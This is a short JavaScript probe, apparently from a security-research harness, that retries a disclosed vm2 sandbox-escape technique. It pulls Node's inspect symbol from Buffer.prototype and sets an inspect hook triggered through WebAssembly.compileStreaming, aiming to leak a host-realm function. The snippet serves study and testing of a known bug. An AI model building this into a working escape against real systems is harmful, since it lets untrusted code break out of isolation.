// Source: vm2 issue #533 "Discontinued", comment by XmiliaH (2023-10-05), bug 1 of 4
// (https://github.com/patriksimek/vm2/issues/533): "You can get the inspect symbol from the buffer
// prototype".
// Tried: `Object.getOwnPropertySymbols(Buffer.prototype)[0]` as the real inspect symbol, then the
// GHSA-g644 payload (custom inspect hook + WebAssembly.compileStreaming).
const customInspectSymbol = Object.getOwnPropertySymbols(Buffer.prototype)[0];
const out = { symbol: String(customInspectSymbol) };
const obj = {
  [customInspectSymbol]: (depth, opt, inspect) => { out.hook = true; __wr.use(inspect, 'inspect argument'); return 'x'; },
  valueOf: undefined,
  constructor: undefined,
};
try { await WebAssembly.compileStreaming(obj).catch(() => undefined); } catch (e) { out.compileStreaming = String(e.message).slice(0, 80); }
console.log(obj);
return out;
